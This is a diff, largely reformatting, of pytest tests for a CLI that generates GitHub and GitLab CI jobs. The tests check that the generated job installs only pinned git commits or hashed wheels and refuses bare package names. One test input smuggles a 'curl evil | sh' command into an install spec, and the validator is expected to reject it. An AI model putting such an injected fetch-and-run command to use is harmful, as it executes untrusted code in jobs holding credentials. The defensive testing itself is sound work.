@@ -22,8 +22,9 @@ PINNED = ["--install", f"git+https://git.example.org/platform/klique.git@{COMMIT
 
 
 def actionlint() -> str:
-    found = shutil.which("actionlint", path=str(Path(sys.executable).parent)) \
-        or shutil.which("actionlint")
+    found = shutil.which("actionlint", path=str(Path(sys.executable).parent)) or shutil.which(
+        "actionlint"
+    )
     if found is None:  # pragma: no cover - the test extra installs it
         pytest.fail("actionlint is not installed: pip install -e '.[test]'")
     return found
@@ -44,14 +45,29 @@ def kliqued_lines(script: str) -> list[list[str]]:
 def test_github_workflow_passes_actionlint(tmp_path, capsys) -> None:
     assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 0
     path = tmp_path / GITHUB_PATH
-    done = subprocess.run([actionlint(), "-no-color", str(path)], capture_output=True,
-                          text=True)
+    done = subprocess.run([actionlint(), "-no-color", str(path)], capture_output=True, text=True)
     assert done.returncode == 0, done.stdout + done.stderr
     # Written once; a second init keeps the file unless --force.
     assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 1
     assert "exists; --force replaces it" in capsys.readouterr().err
-    assert main(["ci", "init", "github", "--repo", str(tmp_path), "--force", *PINNED,
-                 "--estate-path", "clusters/estate", "--since", "28d"]) == 0
+    assert (
+        main(
+            [
+                "ci",
+                "init",
+                "github",
+                "--repo",
+                str(tmp_path),
+                "--force",
+                *PINNED,
+                "--estate-path",
+                "clusters/estate",
+                "--since",
+                "28d",
+            ]
+        )
+        == 0
+    )
     text = path.read_text()
     assert '"clusters/estate/**"' in text and '--since "28d"' in text
     assert subprocess.run([actionlint(), str(path)], capture_output=True).returncode == 0
@@ -90,9 +106,11 @@ def test_gitlab_job(tmp_path) -> None:
 
 # --- what the job installs: a pinned source, never a bare name (issue 25, item 9) ---------
 
+
 @pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
-@pytest.mark.parametrize("bare", ["klique", "klique==0.1.0", "klique>=0.1", "klique[ec2]",
-                                  "Klique ~= 0.1"])
+@pytest.mark.parametrize(
+    "bare", ["klique", "klique==0.1.0", "klique>=0.1", "klique[ec2]", "Klique ~= 0.1"]
+)
 def test_a_bare_package_name_is_refused(tmp_path, capsys, forge, path, bare) -> None:
     """Nobody from the organisation owns ``klique`` on a public index: whoever registers it
     would run code in a job holding the planner token. Refused, nothing written."""
@@ -102,13 +120,16 @@ def test_a_bare_package_name_is_refused(tmp_path, capsys, forge, path, bare) -> 
     assert not (tmp_path / path).exists()
 
 
-@pytest.mark.parametrize("spec,why", [
-    ("git+https://git.example.org/platform/klique.git", "names no commit or tag"),
-    ("git+https://git.example.org/platform/klique.git@", "empty"),
-    ('git+https://x.org/k.git@v1"; curl evil | sh; "', "quote, a space"),
-    ("git+ftp://x.org/k.git@v1", "scheme"),
-    ("", "empty"),
-])
+@pytest.mark.parametrize(
+    "spec,why",
+    [
+        ("git+https://git.example.org/platform/klique.git", "names no commit or tag"),
+        ("git+https://git.example.org/platform/klique.git@", "empty"),
+        ('git+https://x.org/k.git@v1"; curl evil | sh; "', "quote, a space"),
+        ("git+ftp://x.org/k.git@v1", "scheme"),
+        ("", "empty"),
+    ],
+)
 def test_an_unpinned_or_unsafe_source_is_refused(spec, why) -> None:
     with pytest.raises(install.InstallError, match=why):
         install.parse(spec)
@@ -123,23 +144,28 @@ def test_without_install_a_local_kliqued_gives_no_default(tmp_path, capsys) -> N
 
 
 @pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
-@pytest.mark.parametrize("spec,kind", [
-    (f"git+https://git.example.org/platform/klique.git@{COMMIT}", "git commit"),
-    (f"klique[ec2] @ git+ssh://git@git.example.org/platform/klique.git@{COMMIT}", "git commit"),
-    ("tools/klique-0.1.0-py3-none-any.whl", "wheel"),
-    ("https://files.example.org/klique-0.1.0-py3-none-any.whl#sha256=" + "a" * 64, "wheel"),
-])
+@pytest.mark.parametrize(
+    "spec,kind",
+    [
+        (f"git+https://git.example.org/platform/klique.git@{COMMIT}", "git commit"),
+        (f"klique[ec2] @ git+ssh://git@git.example.org/platform/klique.git@{COMMIT}", "git commit"),
+        ("tools/klique-0.1.0-py3-none-any.whl", "wheel"),
+        ("https://files.example.org/klique-0.1.0-py3-none-any.whl#sha256=" + "a" * 64, "wheel"),
+    ],
+)
 def test_a_pinned_source_is_installed_and_said_so(tmp_path, forge, path, spec, kind) -> None:
     assert main(["ci", "init", forge, "--repo", str(tmp_path), "--install", spec]) == 0
     text = (tmp_path / path).read_text()
     assert f'pip install "{spec}"' in text
-    comment = " ".join(line.strip().lstrip("# ") for line in text.splitlines()
-                       if line.strip().startswith("#"))
+    comment = " ".join(
+        line.strip().lstrip("# ") for line in text.splitlines() if line.strip().startswith("#")
+    )
     assert f"pins ({kind}" in comment and "never a bare package name" in comment
     assert 'pip install "klique"' not in text
     if forge == "github":
-        done = subprocess.run([actionlint(), "-no-color", str(tmp_path / path)],
-                              capture_output=True, text=True)
+        done = subprocess.run(
+            [actionlint(), "-no-color", str(tmp_path / path)], capture_output=True, text=True
+        )
         assert done.returncode == 0, done.stdout + done.stderr
 
 
@@ -152,14 +178,23 @@ def test_a_tag_is_accepted_with_a_note_that_it_can_move(tmp_path, capsys) -> Non
 def test_the_default_is_the_commit_or_wheel_this_kliqued_came_from() -> None:
     """pip's PEP 610 record of this kliqued: a git install pins its commit, a wheel its URL
     and hash; an editable or index install gives nothing to pin."""
-    git = install.from_direct_url({"url": "https://git.example.org/platform/klique.git",
-                                   "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
+    git = install.from_direct_url(
+        {
+            "url": "https://git.example.org/platform/klique.git",
+            "vcs_info": {"vcs": "git", "commit_id": COMMIT},
+        }
+    )
     assert git is not None and git.spec.endswith(f"klique.git@{COMMIT}")
     assert git.kind == "git commit"
-    wheel = install.from_direct_url({"url": "https://f.example.org/klique-0.1.0-py3-none-any.whl",
-                                     "archive_info": {"hashes": {"sha256": "b" * 64}}})
+    wheel = install.from_direct_url(
+        {
+            "url": "https://f.example.org/klique-0.1.0-py3-none-any.whl",
+            "archive_info": {"hashes": {"sha256": "b" * 64}},
+        }
+    )
     assert wheel is not None and wheel.spec.endswith(".whl#sha256=" + "b" * 64)
-    assert install.from_direct_url({"url": "file:///src/klique",
-                                    "dir_info": {"editable": True}}) is None
+    assert (
+        install.from_direct_url({"url": "file:///src/klique", "dir_info": {"editable": True}})
+        is None
+    )
     assert install.from_direct_url(None) is None
-
